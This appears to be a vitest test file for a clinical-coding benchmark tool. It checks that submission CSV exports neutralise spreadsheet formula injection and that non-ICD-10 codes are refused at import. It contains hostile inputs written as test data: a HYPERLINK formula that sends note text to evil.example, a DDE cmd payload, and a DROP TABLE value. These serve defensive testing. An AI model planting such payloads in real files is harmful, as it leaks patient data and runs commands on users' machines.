import fs from 'node:fs';
import path from 'node:path';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importDataset } from '../../src/core/data/import';
import { importPredictions } from '../../src/core/data/predictions-import';
import { csvCell, neutraliseFormula } from '../../src/core/export/csv-cell';
import { exportSubmission } from '../../src/core/export/submission';
import { openStore, type WritableDb } from '../../src/core/store/database';
import { readCsvText as parseCsv } from '../helpers/csv-reader';
import { annotationsCsv, notesCsv, spansOf, tempDir, writeFile } from '../helpers/mimic-files';

/**
 * Formula injection (issue 16 §3): a rationale from a model or an external file that starts with "=" was written
 * as is into the submission CSV, where a spreadsheet runs it (=HYPERLINK("http://x/?"&D2) sends note text away).
 * Codes that are not ICD-10-shaped are refused at import.
 */
let dir: string;
let db: WritableDb;
const NOTE = 'Brief Hospital Course:\nThe patient has atrial fibrillation.\nBlood pressure was high.\n';
const ATTACKS = ['=HYPERLINK("http://evil.example/?"&D2,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '\uff1d1+1'];

beforeAll(async () => {
  dir = tempDir('medbench-formula-');
  db = openStore(path.join(dir, 'formula.db'));
  const notes = writeFile(dir, 'notes.csv', notesCsv([{ subjectId: '1', hadmId: '10', text: NOTE }]));
  const annotations = writeFile(
    dir,
    'ann.csv',
    annotationsCsv([
      { taskId: '1_10', code: 'I48.91', desc: 'Atrial fibrillation', gold: true, spans: spansOf(NOTE, 'atrial fibrillation') },
      { taskId: '1_10', code: 'I10', desc: 'Hypertension', gold: true, spans: spansOf(NOTE, 'Blood pressure was high') },
    ]),
  );
  await importDataset(db, { annotations, notes, format: 'raw' });
});
afterAll(() => {
  db.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('csvCell: the one neutraliser every CSV writer uses', () => {
  it.each(ATTACKS)('%j is written with a leading apostrophe', (attack) => {
    expect(neutraliseFormula(attack)).toBe(`'${attack}`);
    const written = csvCell(attack);
    expect(parseCsv(`${written}\n`)[0]![0]).toBe(`'${attack}`);
  });

  it('plain text, numbers and booleans are unchanged; quoting follows RFC 4180', () => {
    expect(csvCell('Atrial fibrillation')).toBe('Atrial fibrillation');
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(true)).toBe('true');
    expect(csvCell('x=1')).toBe('x=1');
  });
});

describe('the submission export', () => {
  it('neutralises a rationale from an external predictions file that is a formula', async () => {
    const rows = ATTACKS.slice(0, 2).map((attack, i) => [ '1_10', i === 0 ? 'I48.91' : 'I10', 'True', '[]', attack ]);
    const file = writeFile(dir, 'preds.csv', ['task_id,code,prediction,evidence,rationale', ...rows.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(','))].join('\n') + '\n');
    await importPredictions(db, { file, name: 'hostile' });
    const out = path.join(dir, 'hostile.zip');
    exportSubmission(db, 'hostile', out);
    const entries = unzipSync(fs.readFileSync(out));
    const csv = Buffer.from(Object.values(entries)[0]!).toString('utf8');
    const table = parseCsv(csv);
    const rationale = table[0]!.indexOf('rationale');
    const cells = table.slice(1).map((row) => row[rationale]!);
    expect(cells.sort()).toEqual(ATTACKS.slice(0, 2).map((a) => `'${a}`).sort());
    for (const row of table) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('codes that are not ICD-10-shaped are a problem row at import', () => {
  it.each(['=HYPERLINK("http://evil.example/")', '-1', 'atrial fibrillation', 'I48.91; DROP TABLE pairs', 'I4'])('%j', async (code) => {
    const notes = writeFile(dir, 'notes-code.csv', notesCsv([{ subjectId: '1', hadmId: '10', text: NOTE }]));
    const annotations = writeFile(
      dir,
      'ann-code.csv',
      annotationsCsv([
        { taskId: '1_10', code, desc: 'x', gold: true, spans: spansOf(NOTE, 'atrial fibrillation') },
        { taskId: '1_10', code: '0DTJ4ZZ', desc: 'Resection of appendix', gold: false, spans: '[]' },
      ]),
    );
    const fresh = openStore(path.join(dir, `code-${Math.random().toString(36).slice(2)}.db`));
    try {
      const report = await importDataset(fresh, { annotations, notes, format: 'raw', dataset: 'codes' });
      expect(report.problems).toEqual([expect.objectContaining({ kind: 'bad-code', row: 1, detail: expect.stringMatching(/not an ICD-10-CM or ICD-10-PCS code/) })]);
      expect(report.pairs).toBe(1);
    } finally {
      fresh.close();
    }
  });
});
